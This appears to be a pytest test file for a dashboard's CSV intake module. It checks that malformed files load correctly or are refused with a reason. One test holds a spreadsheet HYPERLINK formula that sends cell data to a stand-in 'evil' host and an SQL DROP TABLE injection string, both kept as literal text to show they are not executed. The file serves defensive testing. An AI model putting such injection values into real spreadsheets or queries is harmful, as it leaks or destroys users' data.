"""Files named after what is wrong with them: each loads right, or is refused with a reason."""

from datetime import date
from decimal import Decimal

import pytest

from dashboard import intake

WITH_DATE = {"constants": {"date": "2026-01-31"}}
WITH_CREATED = {"constants": {"created_at": "2026-01-31"}}

# file, options, rows loaded, lines rejected, lines skipped, money loaded
READ = [
    ("02_header_only", {}, 0, [], [], "0"),
    ("08_header_spaces_bom", WITH_DATE, 1, [], [], "1"),
    ("10_utf16le", {}, 1, [], [], "1"),
    ("12_cp1252", {}, 1, [], [], "1"),
    ("16_ctrl", {}, 1, [], [], "1"),
    ("18_nfc_nfd", {}, 2, [], [], "2"),
    ("20_semicolon", {}, 1, [], [], "1.50"),
    ("22_pipe", WITH_DATE, 1, [], [], "1"),
    ("24_crlf", {}, 1, [], [], "1"),
    ("26_mixed_eol", {}, 3, [], [], "6"),
    ("30_backslash_esc", {}, 1, [], [], "1"),
    ("32_ragged_long", {}, 1, [2], [], "2"),
    ("34_trailing_sep", {}, 1, [], [], "1"),
    ("36_total_row", {}, 2, [], [4], "3"),
    ("38_no_final_nl", {}, 1, [], [], "1"),
    ("44_trailing_minus_pct", {}, 1, [3], [], "-500"),
    ("46_nan_inf", {}, 0, [2, 3], [], "0"),
    ("48_precision", {}, 3, [], [], "1.30"),
    ("50_null_words", {}, 0, [2, 3, 4], [], "0"),
    ("52_mmdd_ambig", {"dates": "dmy"}, 2, [], [], "3"),
    ("54_excel_serial", {}, 1, [], [], "1"),
    ("58_far_date", {}, 0, [2, 3], [], "0"),
    ("60_leading_zero_id", WITH_CREATED, 2, [], [], None),
    ("62_formula", {}, 7, [], [], "7"),
    ("64_sql", {}, 1, [], [], "1"),
    ("68_dup_rows", {}, 2, [], [], "2"),
    ("70_blank_rows", {}, 2, [], [3, 4], "3"),
    ("80_quoted_header_nl", {"mapping": {"camp aign": "campaign_name"}, **WITH_DATE}, 1, [], [], "1"),
]

# file, words of the sentence, line, option
REFUSED = [
    ("04_no_header", "header", 1, "--header-row"),
    ("06_dup_header_case", "same name", 1, None),
    ("08_header_spaces_bom", "needs date", None, "--map"),
    ("28_unclosed_quote", "quote", 2, None),
    ("40_currency", "two currencies", 3, None),
    ("42_ambig_thousand", "thousand or a fraction", 2, "--decimal"),
    ("52_mmdd_ambig", "two ways", 2, "--dates"),
    ("56_two_digit_year", "two ways", 2, "--dates"),
    ("72_png_as", "PNG", None, None),
    ("74_html_login_page", "web page", None, None),
    ("76_gzip_as", "gzip", None, None),
]


@pytest.mark.parametrize(("name", "options", "rows", "rejected", "skipped", "money"), READ)
def test_it_loads_what_is_right_and_names_what_is_not(peers, name, options, rows, rejected, skipped, money):
    reading = read(peers, name, **options)
    assert (reading.rows.num_rows, sorted({r.line for r in reading.rejects})) == (rows, rejected)
    assert [skip.line for skip in reading.skips] == skipped
    assert money is None or reading.money.loaded == Decimal(money)


@pytest.mark.parametrize(("name", "words", "line", "option"), REFUSED)
def test_it_is_refused_with_a_sentence_and_what_to_do(peers, name, words, line, option):
    with pytest.raises(intake.Refused, match=words) as refused:
        read(peers, name)
    assert (refused.value.line, refused.value.option) == (line, option)


def test_every_bad_input_is_named_here(peers):
    named = {name for name, *_ in READ + REFUSED}
    assert {path.stem for path in (peers / "bad_inputs").glob("*.csv")} == named


def test_both_spellings_of_a_letter_are_one_name(peers):
    assert len(set(read(peers, "18_nfc_nfd").rows["campaign_name"].to_pylist())) == 1


def test_ids_keep_their_zeros(peers):
    assert read(peers, "60_leading_zero_id", **WITH_CREATED).rows["lead_id"].to_pylist() == ["007", "00123456789012345678"]


def test_a_day_number_is_its_day(peers):
    assert read(peers, "54_excel_serial").rows["date"].to_pylist() == [date(2026, 1, 1)]


def test_formulas_and_sql_stay_as_written(peers):
    assert read(peers, "62_formula").rows["campaign_name"].to_pylist()[0] == '=HYPERLINK("http://evil/?"&A1,"x")'
    assert read(peers, "64_sql").rows["campaign_name"].to_pylist() == ["'; DROP TABLE campaigns; --"]


def read(peers, name, **options):
    """One of the files, read."""
    file = peers / "bad_inputs" / f"{name}.csv"
    return intake.read(file.read_bytes(), file.name, intake.Options(**options))
